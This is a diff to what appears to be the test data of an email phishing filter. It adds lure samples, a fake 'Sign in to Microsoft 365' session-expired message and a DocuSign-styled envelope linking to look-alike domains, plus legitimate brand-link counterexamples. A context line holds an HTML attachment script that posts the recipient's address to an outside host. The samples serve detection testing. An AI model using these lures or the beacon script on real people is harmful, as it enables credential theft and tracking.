@@ -124,6 +124,16 @@ func links() []Sample {
 			attach("text/html", "Fax_3pages.html", []byte(`<html><body><h3>Document</h3><p>Loading document...</p>`+
 				`<script>fetch("https://api-7f3a.workers.dev/c",{method:"POST",body:JSON.stringify({e:"kenji@corp.example.jp"})})</script></body></html>`)))})
 
+	// --- A brand's sign-in words to another domain ---
+	add(bad("url-brand-signin-text", "a session-expired lure whose button says Sign in to Microsoft 365 and goes to the attacker's own domain, no domain shown and no free hosting", policy.Tag,
+		w("heuristic", "brand-signin-link", "2")),
+		linkMail("Session expired", `<p>Your session has expired.</p><p><a href="https://m365-session.example.net/owa/?id=7f3a"><b>Sign in to</b> Microsoft&nbsp;365</a></p>`))
+
+	add(bad("url-docusign-review-text", "a DocuSign-styled envelope whose Review Document button goes to a domain that is not DocuSign's", policy.Tag,
+		w("heuristic", "brand-signin-link", "2")),
+		linkMail("Completed: Please DocuSign Q4 Agreement", `<p>Kenji Sato sent you a document to review and sign.</p>`+
+			`<p><a href="https://secure-envelope.example.org/r/7f3a">REVIEW DOCUMENT IN DOCUSIGN</a></p>`))
+
 	// --- Honest mail like them ---
 	add(ok("newsletter-recipient-in-query", "a newsletter whose unsubscribe and preference links carry the recipient's address in their query"),
 		linkMail("November news", `<p>News of the month.</p><p><a href="https://news.example-esp.com/unsubscribe?email=kenji%40corp.example.jp&amp;list=7">Unsubscribe</a> · `+
@@ -152,6 +162,13 @@ func links() []Sample {
 	add(ok("hosting-glued-words", "a restaurant's and a student's sites on free hosting whose names hold a brand inside an ordinary word or beside words that are no lure"),
 		linkMail("Friday lunch", `<p>Menu: <a href="https://pineapple-kitchen2026.netlify.app/menu">Pineapple Kitchen</a>, order at `+
 			`<a href="https://purchase-7f3a.pages.dev/">our order page</a>. Kenji's course project: <a href="https://netflixclone-demo.vercel.app/">streaming app demo</a>.</p>`))
+
+	add(ok("brand-signin-own-domains", "mail whose links name brands beside sign-in words where the brands' own sites or an app's own button go: a SharePoint notification, an Office link, an app's Sign in with Google, an Acme account, PayPal's German site, a newsletter's Instagram and Maps links through its click tracker"),
+		linkMail("Your week", `<p>Kenji shared Q4.xlsx: <a href="https://acme.sharepoint.com/sites/finance/Q4.xlsx">View on SharePoint</a>, `+
+			`<a href="https://www.office.com/launch/excel">Open in Microsoft 365</a>. `+
+			`<a href="https://app.acme.example/auth/google">Sign in with Google</a> or <a href="https://app.acme.example/login">Sign in to your Acme account</a>. `+
+			`<a href="https://www.paypal.de/signin">Bei PayPal login</a>. `+
+			`<a href="https://click.news.example/c?id=9">View on Instagram</a> · <a href="https://click.news.example/c?id=10">Open in Google Maps</a></p>`))
 
 	add(ok("hosting-forms-and-shares", "a team mail with a Google Form for lunch, a Microsoft Forms survey on password rules, the company's site on Webflow, a Notion page, files on Dropbox and OneDrive for Business, published slides and a DocuSign envelope from docusign.net"),
 		linkMail("Friday offsite", `<p>Pick your lunch: <a href="https://docs.google.com/forms/d/e/1FAIpQLSf-lunch/viewform">Lunch form</a>. `+
